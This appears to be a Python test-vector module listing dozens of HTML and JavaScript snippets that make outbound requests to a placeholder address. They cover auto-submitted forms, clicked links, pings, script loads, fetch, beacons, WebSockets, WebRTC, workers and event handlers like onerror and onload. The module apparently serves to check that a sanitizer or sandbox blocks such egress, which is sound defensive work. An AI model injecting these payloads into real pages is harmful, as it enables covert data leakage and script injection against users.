"""Forms, links and scripts that call out by themselves.

How addresses are written into them: :mod:`tests.security.vectors`.
"""

from __future__ import annotations

FORMS = {
    "form": '<form id="f" action="{u}"><input name="a"></form><script>f.submit()</script>',
    "form-button": '<form><button id="b" formaction="{u}">x</button></form>'
    "<script>b.click()</script>",
    "form-post": '<form id="f" method="post" action="{u}"></form><script>f.submit()</script>',
    "link-click": '<a id="a" href="{u}">x</a><script>a.click()</script>',
    "link-ping": '<a id="a" href="#x" ping="{u}">x</a><script>a.click()</script>',
    "link-blank": '<a id="a" target="_blank" href="{u}">x</a><script>a.click()</script>',
    "form-image": '<form action="{u}"><input id="i" type="image" src="data:,"></form>'
    "<script>i.click()</script>",
    "form-frame": '<iframe name="n"></iframe><form id="f" target="n" action="{u}"></form>'
    "<script>f.submit()</script>",
    "link-download": '<a id="a" download href="{u}">x</a><script>a.click()</script>',
    "link-area": '<map name="m"><area id="a" href="{u}" ping="{u}" shape="default"></map>'
    '<img usemap="#m" src="data:,"><script>a.click()</script>',
    "link-svg": '<svg><a id="a" href="{u}"><text>x</text></a></svg>'
    "<script>a.dispatchEvent(new MouseEvent('click', {{bubbles: true}}))</script>",
}
SCRIPTS = {
    "script-src": '<script src="{u}"></script>',
    "script-module": '<script type="module" src="{u}"></script>',
    "script-import": "<script>import('{u}')</script>",
    "script-chain": '<script src="{c}"></script>',
    "script-image": "<script>new Image().src = '{u}'</script>",
    "script-fetch": "<script>fetch('{u}', {{mode: 'no-cors'}})</script>",
    "script-xhr": "<script>x = new XMLHttpRequest(); x.open('GET', '{u}'); x.send()</script>",
    "script-beacon": "<script>navigator.sendBeacon('{u}')</script>",
    "script-event-source": "<script>new EventSource('{u}')</script>",
    "script-socket": "<script>new WebSocket('ws:{p}')</script>",
    "script-worker": "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('{u}')\"]"
    ")))</script>",
    "script-open": "<script>open('{u}')</script>",
    "script-location": "<script>location = '{u}'</script>",
    "script-webrtc": "<script>c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:' + "
    "'{p}'.split('/')[2]}}]}}); c.createDataChannel('x'); "
    "c.createOffer().then(o => c.setLocalDescription(o))</script>",
    "script-write": "<script>document.write('<img src=\"{u}\">')</script>",
    "event-error": '<img src="x:y" onerror="new Image().src = \'{u}\'">',
    "event-body": "<body onload=\"new Image().src = '{u}'\">",
    "event-focus": "<input autofocus onfocus=\"new Image().src = '{u}'\">",
    "event-toggle": "<details open ontoggle=\"new Image().src = '{u}'\">x</details>",
    "event-animation": "<style>@keyframes k {{}} p {{ animation: k 1s }}</style>"
    "<p onanimationstart=\"new Image().src = '{u}'\">x</p>",
    "script-defer": '<script defer src="{u}"></script>',
    "script-import-map": '<script type="importmap">{{"imports": {{"m": "{u}"}}}}</script>'
    '<script type="module">import "m"</script>',
    "script-shared-worker": "<script>new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{u}', "
    "{{mode: 'no-cors'}})\"])))</script>",
    "script-fetch-alive": "<script>fetch('{u}', {{mode: 'no-cors', keepalive: true, method: 'POST', "
    "body: 'x'}})</script>",
    "script-transport": "<script>new WebTransport('https:{p}')</script>",
    "script-turn": "<script>c = new RTCPeerConnection({{iceTransportPolicy: 'relay', iceServers: "
    "[{{urls: 'turn:' + '{p}'.split('/')[2] + '?transport=tcp', username: 'x', credential: 'y'}}]}});"
    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>",
    "script-font": "<script>new FontFace('x', 'url({u})').load()</script>",
    "script-audio": "<script>new Audio('{u}').load()</script>",
    "script-worklet": "<script>new AudioContext().audioWorklet.addModule('{u}')</script>",
    "script-preconnect": "<script>l = document.createElement('link'); l.rel = 'preconnect'; "
    "l.href = '{u}'; document.head.append(l)</script>",
    "script-markup": "<p id='w'></p><script>w.innerHTML = '<img src=\"{u}\">'</script>",
    "script-frame": "<script>f = document.createElement('iframe'); f.src = '{u}'; "
    "document.body.append(f)</script>",
    "script-parser": "<script>document.body.append(document.importNode(new DOMParser()"
    ".parseFromString('<img src=\"{u}\">', 'text/html').images[0], true))</script>",
    "script-later": "<script>setTimeout(\"new Image().src = '{u}'\", 1)</script>",
    "script-style": "<script>document.body.style.background = 'url({u})'</script>",
    "event-load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" '
    "onload=\"new Image().src = '{u}'\">",
    "event-page-show": "<body onpageshow=\"new Image().src = '{u}'\">",
    "event-print": "<body onbeforeprint=\"new Image().src = '{u}'\"><script>"
    "dispatchEvent(new Event('beforeprint'))</script>",
    "event-hover": "<p id='v' onmouseover=\"new Image().src = '{u}'\">x</p><script>"
    "v.dispatchEvent(new MouseEvent('mouseover'))</script>",
    "event-media": "<video src='x:y' onerror=\"new Image().src = '{u}'\"></video>",
    "event-style": "<style onload=\"new Image().src = '{u}'\"></style>",
    "event-transition": "<style>p {{ transition: opacity 1ms; opacity: 1 }} @starting-style "
    "{{ p {{ opacity: 0 }} }}</style><p ontransitionend=\"new Image().src = '{u}'\">x</p>",
    "event-marquee": "<marquee loop='1' width='1' onstart=\"new Image().src = '{u}'\">x</marquee>",
}
